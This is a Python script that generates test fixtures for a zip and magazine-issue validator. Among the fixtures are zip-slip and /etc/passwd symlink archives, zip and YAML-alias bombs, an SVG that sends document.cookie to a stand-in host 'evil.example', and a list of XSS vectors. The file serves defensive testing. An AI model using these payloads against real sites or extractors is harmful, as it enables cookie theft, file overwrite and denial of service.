#!/usr/bin/env python3
"""Builds the validate corpus under Tests/Fixtures byte by byte: zips (zips/), bare manifests
(manifests/) and the source folders git cannot carry or that are easier made than written.

Every fixture's name states its expected outcome (-valid, -warning, -error, -info); the tests in
Tests/GalleyEndToEndTests/ValidateFixtureTests.swift assert the exact findings of each. The
output is deterministic: run `python3 Tests/Fixtures/make_fixtures.py` and commit the result.
"""
import json
import os
import shutil
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ZIPS = os.path.join(HERE, "zips")
MANIFESTS = os.path.join(HERE, "manifests")
SOURCES = os.path.join(HERE, "sources")

JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + bytes(64) + b"\xff\xd9"
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" + bytes(400)


def png(w=2, h=2):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + b"\x80\x40\x20" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


PNG = png()


def asset(id, file, crop=None, **extra):
    a = {"id": id, "caption": "Caption", "source": "Credit", "file_name": file, "crop_350_350": crop or file}
    a.update(extra)
    return a


def manifest(apple_id, images=None, sounds=None, body=None, articles=None):
    images = images if images is not None else [asset("photo-1", "photo-1.jpg")]
    sounds = sounds if sounds is not None else [asset("sound-1", "sound-1.mp3")]
    article = {
        "global_id": "5f0000000000000000000020", "title": "Title",
        "body": body if body is not None else "<p>Intro.</p>\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n",
        "description": "", "url": "", "section": "", "author_name": "", "source": "", "dek": "", "author_url": "",
        "author_bio": "", "keywords": "a,b", "commentary": "", "type": "article",
        "date_last_updated": "2020-03-01T00:00:00.000+0000", "meta": {"published": True}, "customMeta": {},
        "metadata": {}, "images": {"ordered": images}, "sound_files": {"ordered": sounds},
    }
    return {
        "global_id": "5f0000000000000000000010", "apple_id": apple_id, "title": "Check", "description": "",
        "last_updated": "2020-03-01T00:00:00.000+0000", "display_date": "March 2020", "publish_date": "03/01/2020",
        "metadata": {}, "images": {"ordered": [asset("cover", "cover.jpg")]},
        "articles": articles if articles is not None else [article],
    }


def many_articles(apple_id, count=70):
    """An issue of `count` articles whose fields differ from one to the next."""
    doc = manifest(apple_id)
    template = doc["articles"][0]
    articles = []
    for i in range(count):
        article = json.loads(json.dumps(template))
        article["global_id"] = f"6a{i + 1:022x}"
        article["title"] = f"Article {i + 1}: the night ferry" if i % 3 else f"Article {i + 1}"
        article["dek"] = "" if i % 4 else f"Dek {i}"
        article["keywords"] = ",".join(["harbour", "crane", "fog"][: i % 4])
        article["date_last_updated"] = f"2020-02-{28 - i // 24:02d}T{23 - i % 24:02d}:00:00.000+0000"  # newest first
        article["featured"] = {doc["global_id"]: 1 if i % 5 == 0 else 0}
        article["meta"] = {"published": i % 7 != 0}
        article["customMeta"] = {"n": i} if i % 2 else {}
        article["images"] = {"ordered": [asset(f"photo-{i + 1}", "photo-1.jpg")]}
        article["sound_files"] = {"ordered": [asset(f"sound-{i + 1}", "sound-1.mp3")] if i % 3 else []}
        article["body"] = (f"<p>Paragraph {i} of the night crossing.</p>\n<!-- [ASSET: photo-{i + 1}] -->\n"
                           + (f"<!-- [ASSET: sound-{i + 1}] -->\n" if i % 3 else ""))
        articles.append(article)
    doc["articles"] = articles
    return doc


class Entry:
    def __init__(self, name, data=b"", method=0, flags=0, mode=0o100644, crc=None, size=None, csize=None,
                 local_name=None, offset=None, raw=None, made_by=0x0314, extra=b"", listed=True, descriptor=False):
        self.name = name.encode("utf-8") if isinstance(name, str) else name
        self.data = data
        self.method = method
        self.flags = flags | (0x800 if isinstance(name, str) and not name.isascii() else 0)
        self.mode = mode
        self.crc = crc
        self.size = size
        self.csize = csize
        self.local_name = local_name
        self.offset = offset
        self.raw = raw  # compressed bytes given as they are
        self.made_by = made_by
        self.extra = extra
        self.listed = listed  # False: a local entry the central directory does not list
        self.descriptor = descriptor  # True: sizes and CRC in a signed data descriptor after the data
        if descriptor:
            self.flags |= 0x8


def build(entries, prefix=b"", eocd_override=None, zip64_count=None):
    out = bytearray(prefix)
    central = bytearray()
    for e in entries:
        if e.raw is not None:
            payload = e.raw
        elif e.method == 8:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = c.compress(e.data) + c.flush()
        else:
            payload = e.data
        crc = e.crc if e.crc is not None else zlib.crc32(e.data) & 0xFFFFFFFF
        size = e.size if e.size is not None else len(e.data)
        csize = e.csize if e.csize is not None else len(payload)
        offset = len(out)
        lname = e.local_name if e.local_name is not None else e.name
        local = (0, 0, 0) if e.descriptor else (crc, csize, size)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, e.flags, e.method, 0, 0x5061, *local,
                           len(lname), len(e.extra)) + lname + e.extra + payload
        if e.descriptor:
            out += struct.pack("<IIII", 0x08074B50, crc, csize, size)
        if not e.listed:
            continue
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, e.made_by, 20, e.flags, e.method, 0, 0x5061, crc,
                               csize, size, len(e.name), len(e.extra), 0, 0, 0, (e.mode << 16) & 0xFFFFFFFF,
                               e.offset if e.offset is not None else offset) + e.name + e.extra
    cd_offset = len(out)
    out += central
    count = len([e for e in entries if e.listed])
    if zip64_count is not None:
        z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, zip64_count, zip64_count, len(central), cd_offset)
        out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
        count = 0xFFFF
    fields = dict(count=count, cd_size=len(central), cd_offset=cd_offset)
    if eocd_override:
        fields.update(eocd_override)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, fields["count"], fields["count"], fields["cd_size"],
                       fields["cd_offset"], 0)
    return bytes(out)


def issue_entries(top, doc=None, files=None, skip=(), first=True):
    doc = doc if doc is not None else manifest(top)
    files = dict({"cover.jpg": JPEG, "photo-1.jpg": JPEG, "sound-1.mp3": MP3}, **(files or {}))
    latest = Entry(f"{top}/latest.json", json.dumps(doc, indent=2).encode(), method=8)
    media = [Entry(f"{top}/{n}", d) for n, d in sorted(files.items()) if n not in skip]
    return [latest] + media if first else media + [latest]


def write(name, data):
    with open(os.path.join(ZIPS, name), "wb") as f:
        f.write(data)


def stem(name):
    return name[:-4]


def zips():
    shutil.rmtree(ZIPS, ignore_errors=True)
    os.makedirs(ZIPS)
    n = "example-valid.zip"; write(n, build(issue_entries(stem(n))))
    write("not-a-zip-error.zip", PNG)
    write("empty-file-error.zip", b"")
    write("no-entries-error.zip", build([]))
    full = build(issue_entries("truncated-error"))
    write("truncated-error.zip", full[: len(full) // 2])
    n = "cd-out-of-bounds-error.zip"; write(n, build(issue_entries(stem(n)), eocd_override={"cd_offset": 10_000_000}))
    n = "too-many-entries-error.zip"; write(n, build(issue_entries(stem(n)), zip64_count=1_000_000))
    n = "zip64-error.zip"
    z64 = struct.pack("<HHQQ", 0x0001, 16, len(JPEG), len(JPEG))
    entries = issue_entries(stem(n))
    entries[1].extra = z64
    write(n, build(entries))
    n = "prepended-warning.zip"; write(n, build(issue_entries(stem(n)), prefix=b"#!/bin/sh\nexit 0\n"))
    n = "encrypted-error.zip"; e = issue_entries(stem(n)); e[1].flags |= 1; write(n, build(e))
    n = "bzip2-method-error.zip"; e = issue_entries(stem(n)); e[1].method = 12; write(n, build(e))
    n = "symlink-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/link.jpg", b"/etc/passwd", mode=0o120777)]))
    n = "device-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/dev", b"", mode=0o020644)]))
    n = "ratio-bomb-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/zeros.txt", bytes(4 * 1024 * 1024), method=8)]))
    n = "declared-500gb-error.zip"; t = stem(n)
    lies = [Entry(f"{t}/part-{i:03}.bin", b"x", size=0xFFFFFFF0, method=0) for i in range(125)]
    write(n, build(issue_entries(t) + lies))
    # Overlap bomb: a stored entry whose data holds a second entry's complete local header and data.
    n = "overlap-bomb-error.zip"; t = stem(n)
    inner_name = f"{t}/inner.bin".encode()
    inner_data = b"overlap" * 10
    inner = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x5061, zlib.crc32(inner_data), len(inner_data),
                        len(inner_data), len(inner_name), 0) + inner_name + inner_data
    base = issue_entries(t)
    outer = Entry(f"{t}/outer.bin", inner)
    data = build(base + [outer])
    outer_offset = data.find(f"{t}/outer.bin".encode()) - 30
    inner_offset = outer_offset + 30 + len(outer.name)
    e2 = Entry(inner_name, inner_data, offset=inner_offset)
    write(n, build(base + [outer, e2]))
    n = "offset-out-of-bounds-error.zip"; e = issue_entries(stem(n)); e[1].offset = 50_000; write(n, build(e))
    n = "local-name-mismatch-error.zip"; e = issue_entries(stem(n))
    e[1].local_name = f"{stem(n)}/../../evil.jpg".encode(); write(n, build(e))
    n = "absolute-path-error.zip"; write(n, build(issue_entries(stem(n)) + [Entry("/etc/evil.txt", b"x")]))
    n = "zip-slip-dotdot-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/../../evil.txt", b"x")]))
    n = "zip-slip-backslash-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/..\\..\\evil.txt", b"x", made_by=0x0014)]))
    n = "empty-name-error.zip"; write(n, build(issue_entries(stem(n)) + [Entry(b"", b"x")]))
    n = "nul-name-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry(f"{t}/a".encode() + b"\x00b.jpg", b"x")]))
    n = "non-utf8-name-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry(f"{t}/caf".encode() + b"\xe9.jpg", b"x")]))
    n = "long-name-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry(f"{t}/{'a' * 300}.jpg", b"x")]))
    n = "name-with-space-warning.zip"; t = stem(n)
    doc = manifest(t, images=[asset("photo-1", "my photo.jpg")])
    write(n, build(issue_entries(t, doc, files={"my photo.jpg": JPEG}, skip=("photo-1.jpg",))))
    n = "duplicate-name-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry(f"{t}/photo-1.jpg", JPEG)]))
    n = "case-collision-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry(f"{t}/Photo-1.jpg", JPEG)]))
    n = "nfc-collision-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(f"{t}/caf\u00e9.jpg", JPEG), Entry(f"{t}/cafe\u0301.jpg", JPEG)]))
    n = "two-top-folders-error.zip"; t = stem(n); write(n, build(issue_entries(t) + [Entry("other/file.jpg", JPEG)]))
    write("renamed-warning.zip", build(issue_entries("org.example.renamed")))
    n = "no-manifest-error.zip"; write(n, build(issue_entries(stem(n))[1:]))
    n = "manifest-last-info.zip"; write(n, build(issue_entries(stem(n), first=False)))
    # Many articles (more than an import hands its rows' writer at once), each with its own
    # image and sound over shared files, and fields that differ from article to article: the
    # rows an import writes beside its pass must be the ones it writes after it.
    n = "many-articles-valid.zip"; write(n, build(issue_entries(stem(n), doc=many_articles(stem(n)))))
    # The same with latest.json giving its articles before the issue's own fields: nothing of
    # the issue is known when the first article is read, so an import writes the rows after
    # its pass.
    doc = many_articles("articles-first-valid")
    doc = dict({"articles": doc.pop("articles")}, **doc)
    n = "articles-first-valid.zip"; write(n, build(issue_entries(stem(n), doc=doc)))
    n = "bad-crc-error.zip"; e = issue_entries(stem(n)); e[1].crc = 0x12345678; write(n, build(e))
    n = "size-lie-error.zip"; t = stem(n)
    e = issue_entries(t, files={"photo-1.jpg": JPEG + bytes(5000)}); e[2].method = 8; e[2].size = 100
    write(n, build(e))
    n = "bad-deflate-error.zip"; e = issue_entries(stem(n)); e[1].method = 8; e[1].raw = b"\xff" * 40; write(n, build(e))
    # A whole deflate stream, then bytes inside the entry's compressed size that no inflater reads:
    # a place to hide data, refused as damage.
    n = "deflate-trailing-bytes-error.zip"; e = issue_entries(stem(n)); c = zlib.compressobj(9, zlib.DEFLATED, -15)
    e[2].method = 8; e[2].raw = c.compress(e[2].data) + c.flush() + b"PK\x03\x04hidden"; write(n, build(e))
    n = "apple-id-mismatch-error.zip"; t = stem(n); write(n, build(issue_entries(t, manifest("org.example.other"))))
    n = "missing-file-error.zip"; write(n, build(issue_entries(stem(n), skip=("photo-1.jpg",))))
    n = "unreferenced-file-warning.zip"; write(n, build(issue_entries(stem(n), files={"leftover.jpg": JPEG})))
    n = "body-image-missing-error.zip"; t = stem(n)
    body = "<p>Intro.</p>\n<p><img src=\"chart.png\" alt=\"A chart\"></p>\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n"
    write(n, build(issue_entries(t, manifest(t, body=body))))
    n = "body-link-valid.zip"; t = stem(n)
    body = "<p>The <a href=\"report.pdf#page=2\">report</a>.</p>\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n"
    write(n, build(issue_entries(t, manifest(t, body=body), files={"report.pdf": b"%PDF-1.4\n%%EOF\n"})))
    n = "empty-media-error.zip"; write(n, build(issue_entries(stem(n), files={"photo-1.jpg": b""})))
    n = "unknown-media-warning.zip"; write(n, build(issue_entries(stem(n), files={"photo-1.jpg": b"not a picture\n" * 4})))
    n = "sound-in-images-error.zip"; write(n, build(issue_entries(stem(n), files={"photo-1.jpg": MP3})))
    n = "png-named-jpg-warning.zip"; write(n, build(issue_entries(stem(n), files={"photo-1.jpg": PNG})))
    # A reference finding and a media finding, made on two threads: reported in the order one
    # thread made them (references first).
    n = "references-then-media-warning.zip"; write(n, build(issue_entries(stem(n), files={"photo-1.jpg": PNG, "leftover.jpg": JPEG})))
    n = "wrong-dimensions-warning.zip"; t = stem(n)
    doc = manifest(t, images=[asset("photo-1", "photo-1.png", metadata={"width": 640, "height": 480})])
    write(n, build(issue_entries(t, doc, files={"photo-1.png": PNG}, skip=("photo-1.jpg",))))
    # The January 2015 format: legacy article `metadata` and no `meta`, `customMeta`, `author_bio` or
    # `date_last_updated`; the issue's metadata as a JSON string. Validate: an error for today's
    # Dumpling; import: a warning, and the issue goes in.
    n = "older-format-error.zip"; t = stem(n); doc = manifest(t)
    for key in ("meta", "customMeta", "author_bio", "date_last_updated"):
        del doc["articles"][0][key]
    doc["articles"][0]["metadata"] = {"readingTime": "4"}
    doc["metadata"] = "{\"volume\": \"1\"}"
    write(n, build(issue_entries(t, doc)))
    n = "missing-title-error.zip"; t = stem(n); doc = manifest(t); del doc["articles"][0]["title"]
    write(n, build(issue_entries(t, doc)))
    # A file_name given twice: first a path out of the issue, then the good name. A reader taking
    # the last value sees a clean issue; one taking the first writes outside it.
    n = "duplicate-key-error.zip"; t = stem(n)
    entries = issue_entries(t)
    text = entries[0].data.decode()
    entries[0].data = text.replace('"file_name": "photo-1.jpg"', '"file_name": "../../../../etc/passwd",\n            "file_name": "photo-1.jpg"', 1).encode()
    assert entries[0].data != text.encode()
    write(n, build(entries))
    # A PKWARE Unix extra field (0x000d: atime, mtime, uid, gid, then a link target) on a media
    # file: extractors that honour it create a link to /etc/passwd in place of the photo.
    n = "link-extra-field-error.zip"; e = issue_entries(stem(n))
    e[2].extra = struct.pack("<HHIIHH", 0x000D, 12 + 11, 0, 0, 0, 0) + b"/etc/passwd"
    write(n, build(e))
    # An ASi Unix extra field (0x756e: CRC, mode, sizdev, uid, gid, then a link target) whose
    # mode says symbolic link, with no target in it: the mode alone declares the link.
    n = "link-asi-mode-error.zip"; e = issue_entries(stem(n))
    e[2].extra = struct.pack("<HHIHIHH", 0x756E, 14, 0, 0o120777, 0, 0, 0)
    write(n, build(e))
    # A local entry between two listed ones that the central directory does not list.
    n = "orphan-local-entry-error.zip"; e = issue_entries(stem(n))
    e.insert(2, Entry("../../tmp/galley-orphan.txt", b"written by streaming unzippers\n", listed=False))
    write(n, build(e))
    # What streaming writers make: every entry's sizes in a data descriptor after its data.
    n = "data-descriptor-valid.zip"; e = issue_entries(stem(n))
    for entry in e:
        entry.descriptor = True
        entry.flags |= 0x8
    write(n, build(e))
    # Media deflated, as some zip tools do, and a cover that inflates to 600 KiB from a few KiB:
    # the import tests' full disk (`ulimit -f 256`) meets the file's write, not the kept zip's.
    n = "deflated-media-valid.zip"
    cover = JPEG + bytes(97 + ((i * 2654435761) >> 13) % 4 for i in range(600 << 10))
    e = issue_entries(stem(n), files={"cover.jpg": cover})
    for entry in e:
        entry.method = 8
    write(n, build(e))
    n = "trailing-data-error.zip"; write(n, build(issue_entries(stem(n))) + b"<script>alert(1)</script>\n")
    # An entry 300 folders deep (600 bytes of name, under the 1,024-byte name limit).
    n = "deep-entry-error.zip"; t = stem(n)
    write(n, build(issue_entries(t) + [Entry(t + "/" + "d/" * 300 + "deep.txt", b"deep\n")]))
    # Zip64 sizes and offsets near 2^64: sums of them must not overflow (they crashed validate).
    n = "zip64-huge-size-error.zip"; e = issue_entries(stem(n))
    e[1].csize = e[1].size = 0xFFFFFFFF
    e[1].extra = struct.pack("<HHQQ", 0x0001, 16, 0xFFFFFFFFFFFFFF00, 0xFFFFFFFFFFFFFF00)
    write(n, build(e))
    n = "zip64-huge-offset-error.zip"; e = issue_entries(stem(n))
    e[1].offset = 0xFFFFFFFF
    e[1].extra = struct.pack("<HHQ", 0x0001, 8, 0xFFFFFFFFFFFFFFF0)
    write(n, build(e))
    # SVG images that run script when opened by themselves, one way each; and one a browser
    # cannot read. The clean SVG beside them is the example of what passes.
    def svg_issue(n, svg):
        t = stem(n)
        doc = manifest(t, images=[asset("photo-1", "chart.svg")])
        write(n, build(issue_entries(t, doc, files={"chart.svg": svg}, skip=("photo-1.jpg",))))
    svg_head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    svg_issue("svg-clean-valid.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
              '  <a href="https://example.com/"><rect width="10" height="10" fill="#c33"/></a>\n</svg>\n').encode())
    svg_issue("svg-script-error.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
              '  <rect width="10" height="10"/>\n  <script>fetch("https://evil.example/?c=" + document.cookie)</script>\n</svg>\n').encode())
    svg_issue("svg-onload-error.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="10" height="10">\n'
              '  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>\n</svg>\n').encode())
    # `javascript:` split across two internal entities: the attribute holds only `&a;&b;`.
    svg_issue("svg-javascript-entity-error.zip", (svg_head + '<!DOCTYPE svg [ <!ENTITY a "java"> <!ENTITY b "script:alert(1)"> ]>\n'
              '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
              '  <a xlink:href="&a;&b;"><text y="10">Tap</text></a>\n</svg>\n').encode())
    svg_issue("svg-malformed-warning.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg">\n  <rect width="10">\n</svg>\n').encode())
    # Bodies that ran script in the preview before render sanitised them (make browser-check
    # renders this issue and counts script executions: none may happen). Every vector logs
    # `galley-xss` when it runs; none needs the network.
    gif = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs="
    bad = "data:image/png;base64,AAAA"
    log = "console.log('galley-xss')"
    vectors = [
        f"<script>{log}</script>",
        f"<img src=\"{bad}\" onerror=\"{log}\" alt=\"\">",
        f"<svg onload=\"{log}\"><circle r=\"1\"/></svg>",
        f"<iframe srcdoc=\"&lt;script&gt;parent.{log}&lt;/script&gt;\"></iframe>",
        f"<!-- [ASSET: x --><script>{log}</script><!-- ] -->",
        f"<details open ontoggle=\"{log}\"><summary>More</summary>Text.</details>",
        f"<video><source src=\"{bad}\" onerror=\"{log}\"></video>",
        f"<object data=\"data:text/html,&lt;script&gt;parent.{log}&lt;/script&gt;\"></object>",
        f"<embed src=\"data:text/html,&lt;script&gt;parent.{log}&lt;/script&gt;\">",
        f"<math><mtext><table><mglyph><style><img src=\"{bad}\" onerror=\"{log}\"></style></mglyph></table></mtext></math>",
        f"<noscript><p title=\"</noscript><img src='{bad}' onerror=&quot;{log}&quot;>\"></noscript>",
        f"<div style=\"animation:x 1s\" onanimationstart=\"{log}\"><style>@keyframes x {{}}</style>Styled.</div>",
        f"<img src=\"{gif}\" onload=\"{log}\" alt=\"A pixel\">",
        f"<a href=\"javascript:{log}\">A link that runs script when tapped</a>",
    ]
    body = ("<p>Every line below ran script in a preview page.</p>\n" + "\n".join(f"<p>{v}</p>" for v in vectors)
            + "\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n")
    n = "hostile-preview-error.zip"; t = stem(n)
    write(n, build(issue_entries(t, manifest(t, body=body))))
    n = "hostile-body-error.zip"; t = stem(n)
    body = ("<p onclick=\"steal()\">Hi</p>\n<script>alert(1)</script>\n<a href=\"javascript:alert(1)\">x</a>\n"
            "<img src=\"https://tracker.example.com/p.gif\">\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n")
    write(n, build(issue_entries(t, manifest(t, body=body))))


def manifests():
    shutil.rmtree(MANIFESTS, ignore_errors=True)
    os.makedirs(MANIFESTS)
    doc = manifest("org.example.check")
    second = dict(doc["articles"][0], global_id="5f0000000000000000000021", date_last_updated="2020-03-02T00:00:00.000+0000",
                  images={"ordered": []}, sound_files={"ordered": []}, body="<p>Later.</p>\n")
    doc["articles"].append(second)
    with open(os.path.join(MANIFESTS, "date-order-warning.json"), "w") as f:
        json.dump(doc, f, indent=2)
    with open(os.path.join(MANIFESTS, "template-valid.json"), "w") as f:
        json.dump(manifest("org.example.check"), f, indent=2)
    with open(os.path.join(MANIFESTS, "impossible-dates-error.json"), "w") as f:
        bad = manifest("org.example.check")
        bad["publish_date"] = "13/45/2015"
        bad["articles"][0]["date_last_updated"] = "2015-02-29T10:00:00.000+0000"
        json.dump(bad, f, indent=2)
    with open(os.path.join(MANIFESTS, "crashes-dumpling-error.json"), "w") as f:
        bad = manifest("org.example.check")
        del bad["articles"][0]["author_bio"]
        bad["articles"][0]["title"] = None
        bad["publish_date"] = "2020-03-01"
        bad["articles"][0]["date_last_updated"] = "yesterday"
        bad["articles"][0]["images"] = []
        json.dump(bad, f, indent=2)


ISSUE = "title: Fixture\napple_id: org.example.fixture\npublish_date: 2020-03-01\n"


def source(name, files):
    root = os.path.join(SOURCES, name)
    shutil.rmtree(root, ignore_errors=True)
    for path, content in files.items():
        full = os.path.join(root, path)
        if path.endswith("/"):
            os.makedirs(full, exist_ok=True)
            open(os.path.join(full, ".keep"), "w").close()
            continue
        os.makedirs(os.path.dirname(full), exist_ok=True)
        if content is None:
            continue
        with open(full, "wb" if isinstance(content, bytes) else "w") as f:
            f.write(content)


def sources():
    art = "---\ntitle: First\n---\nText.\n"
    source("two-issue-files-error", {"issue.yaml": ISSUE, "issue.json": "{}\n", "articles/01-first/article.md": art})
    source("type-mismatch-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": "---\ntitle: First\nfeatured: maybe\n---\nText.\n"})
    source("two-bodies-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": art, "articles/01-first/article.html": art})
    source("fields-twice-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": art,
                                  "articles/01-first/article.yaml": "title: Again\n"})
    source("front-matter-unclosed-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": "---\ntitle: First\nText.\n"})
    source("order-duplicate-error", {"issue.yaml": ISSUE + "order: [first, first]\n", "articles/01-first/article.md": art})
    source("order-missing-error", {"issue.yaml": ISSUE + "order: [first]\n", "articles/01-first/article.md": art,
                                   "articles/02-second/article.md": art.replace("First", "Second")})
    source("unreadable-error", {"issue.yaml": ISSUE, "articles/01-first/article.md/": None})
    source("latin1-body-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": "---\ntitle: Caf\xe9\n---\n".encode("latin-1")})
    source("unsafe-name-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": "---\ntitle: A\nassets: [\"photo:1.png\"]\n---\nText.\n",
                                 "articles/01-first/photo:1.png": PNG})
    source("thumbnail-kind-error", {"issue.yaml": ISSUE, "articles/01-first/photo.png": PNG, "articles/01-first/clip.mp3": MP3,
                                    "articles/01-first/article.md": "---\ntitle: A\nassets:\n  - file: photo.png\n    thumbnail: clip.mp3\n---\nText.\n"})
    source("no-articles-warning", {"issue.yaml": ISSUE})
    # `../..` from an article's folder names the issue folder itself (it crashed pack and validate).
    source("asset-is-issue-folder-error", {"issue.yaml": ISSUE,
                                           "articles/01-first/article.md": "---\ntitle: A\nassets:\n  - file: ../..\n---\nText.\n"})
    source("stray-file-warning", {"issue.yaml": ISSUE, "articles/01-first/article.md": art, "articles/notes.txt": "todo\n"})
    # Nine levels of nine aliases (the "billion laughs"): 426 bytes, 387 million values expanded.
    bomb = ["title: Bomb", "apple_id: org.example.fixture", "publish_date: 2020-03-01", "metadata:",
            '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi"):
        bomb.append(f"  {name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    source("yaml-alias-bomb-error", {"issue.yaml": "\n".join(bomb) + "\n", "articles/01-first/article.md": art})
    # An article folder named in Latin-1 (`02-café`): a name that is not UTF-8.
    source("non-utf8-folder-error", {"issue.yaml": ISSUE, "articles/01-first/article.md": art})
    os.makedirs(os.path.join(SOURCES, "non-utf8-folder-error", "articles").encode() + b"/02-caf\xe9")
    with open(os.path.join(SOURCES, "non-utf8-folder-error", "articles").encode() + b"/02-caf\xe9/article.md", "w") as f:
        f.write(art.replace("First", "Second"))
    source("svg-script-error", {"issue.yaml": ISSUE,
                                "articles/01-first/article.md": "---\ntitle: A\nassets: [chart.svg]\n---\n<!-- [ASSET: chart.svg] -->\n",
                                "articles/01-first/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<circle r="4"/>\n'
                                                               '<script>alert(document.domain)</script>\n</svg>\n'})
    # Names and content that pack used to write into zips its own validate refused: a 250-byte
    # article folder holding a 250-byte file name (one 500-byte name component in the zip), and a
    # 1.2 MB front-matter field of one repeated phrase (latest.json deflates past 100:1).
    long = "a" * 246
    source("long-names-error", {"issue.yaml": ISSUE,
                                f"articles/{long}/article.md": f"---\ntitle: A\nassets: [{long}.png]\n---\n<!-- [ASSET: {long}.png] -->\n",
                                f"articles/{long}/{long}.png": PNG})
    source("repetitive-field-error", {"issue.yaml": ISSUE,
                                      "articles/01-first/article.md": "---\ntitle: A\ndek: " + "all work and no play " * 60_000 + "\n---\nText.\n"})
    # Pictures and files named in bodies as editors write them: Markdown images and links, and
    # HTML <img>, <audio src>, <video poster>, one file also listed as an asset.
    source("local-images-valid", {
        "issue.yaml": ISSUE,
        "articles/01-chart/article.md": "---\ntitle: Chart\n---\nSales rose.\n\n![A chart of sales](chart.png \"Sales by month\")\n\n"
                                        "Read [the report](report.pdf#page=2), or [the chart alone](chart.png).\n",
        "articles/01-chart/chart.png": PNG,
        "articles/01-chart/report.pdf": b"%PDF-1.4\n%%EOF\n",
        "articles/02-quay/article.html": "---\ntitle: Quay\nassets:\n  - file: images/quay.png\n    caption: The quay at dawn.\n---\n"
                                         "<p>Intro.</p>\n<p><img src=\"images/quay.png\" alt=\"ignored: the asset has a caption\"></p>\n"
                                         "<p><img src='images/gull.png' title=\"A gull\"></p>\n"
                                         "<audio controls src=\"clip.mp3\"></audio>\n<video controls poster=\"images/gull.png\"></video>\n"
                                         "<p><a href=\"https://example.com/\">Remote</a> and <a href=\"#top\">top</a> stay.</p>\n",
        "articles/02-quay/images/quay.png": PNG,
        "articles/02-quay/images/gull.png": PNG,
        "articles/02-quay/clip.mp3": MP3,
    })
    # A picture whose header says JPEG but whose data is not one: libvips cannot thumbnail it.
    source("undecodable-image-warning", {
        "issue.yaml": ISSUE,
        "articles/01-first/article.md": "---\ntitle: A\nassets:\n  - photo.jpg\n---\n<!-- [ASSET: photo.jpg] -->\n",
        "articles/01-first/photo.jpg": JPEG,
    })
    source("local-image-missing-error", {
        "issue.yaml": ISSUE,
        "articles/01-chart/article.md": "---\ntitle: Chart\n---\nSales rose.\n\nSee ![A chart](chrat.png).\n",
        "articles/01-chart/chart.png": PNG,
    })
    root = os.path.join(SOURCES, "symlink-outside-error")
    source("symlink-outside-error", {"issue.yaml": ISSUE,
                                     "articles/01-first/article.md": "---\ntitle: A\nassets: [photo.png]\n---\n<!-- [ASSET: photo.png] -->\n"})
    os.symlink("../../../minimal-valid/articles/01-first/photo.png", os.path.join(root, "articles/01-first/photo.png"))


def versions():
    """Two versions of one issue (folder and apple_id `example-valid`): the zip in zips/ and this
    one, a month older by last_updated. For import.older's examples."""
    folder = os.path.join(HERE, "versions")
    shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(folder)
    doc = manifest("example-valid")
    doc["last_updated"] = "2020-02-01T00:00:00.000+0000"
    with open(os.path.join(folder, "example-valid.zip"), "wb") as f:
        f.write(build(issue_entries("example-valid", doc=doc)))
    # The same version (last_updated) as zips/example-valid.zip, with an edited title: for
    # import.same-version-changed.
    doc = manifest("example-valid")
    doc["title"] = "Check, edited"
    os.makedirs(os.path.join(folder, "edited"))
    with open(os.path.join(folder, "edited", "example-valid.zip"), "wb") as f:
        f.write(build(issue_entries("example-valid", doc=doc)))
